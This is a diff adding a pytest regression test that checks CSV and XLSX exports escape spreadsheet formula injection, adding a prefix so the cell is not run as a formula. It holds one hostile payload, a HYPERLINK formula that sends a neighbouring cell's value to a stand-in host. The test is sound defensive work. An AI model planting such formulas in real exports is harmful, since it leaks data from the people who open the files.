@@ -12,12 +12,14 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+from sqlalchemy import update
 
 from campaign import audit
 from campaign.history import exports
 from campaign.history.queries import Filters
 from campaign.runtime import Runtime
 from campaign.settings import Settings, get_settings
+from campaign.storage.models import Signature
 from cli import main as campaign_cli
 from tests.campaign.history.test_history import SIGNATURES, TZ, seeded  # noqa: F401 - the fixture
 from tests.conftest import ROOT, backend_env
@@ -213,3 +215,22 @@ def test_cli_rollup_rebuild_reports_rows(seeded: Runtime, settings: Settings) ->
     done = cli(settings, "rollup", "rebuild")
     assert done.returncode == 0, done.stderr
     assert "signature_hours: 9 rows" in done.stdout and "member_hours: 2 rows" in done.stdout
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_no_exported_cell_runs_as_a_formula(seeded: Runtime, fmt: str, tmp_path: Path) -> None:  # noqa: F811
+    """The attack that found it: a provider name stored before imports checked it, as a formula."""
+    payload = '=HYPERLINK("http://x.ex/?"&B2)'  # 30 characters: the column holds 32
+    with seeded.engine.begin() as connection:
+        connection.execute(update(Signature).values(provider=payload))
+    data, done = exports.to_bytes(seeded.engine, "signatures", fmt, Filters(), actor="anna", tz=TZ)  # type: ignore[arg-type]
+    assert done.rows == len(SIGNATURES)
+    if fmt == "csv":
+        _, header, rows, _ = read_csv(data)
+    else:
+        book = openpyxl.load_workbook(io.BytesIO(data))
+        values = [[cell for cell in row] for row in book.worksheets[1].iter_rows(values_only=True)]
+        header, rows = [str(v) for v in values[0]], values[1:]
+    column = header.index("provider")
+    assert {row[column] for row in rows} == {"'" + payload}
+    assert all(not str(cell).startswith(("=", "+", "@")) for row in rows for cell in row if cell is not None)
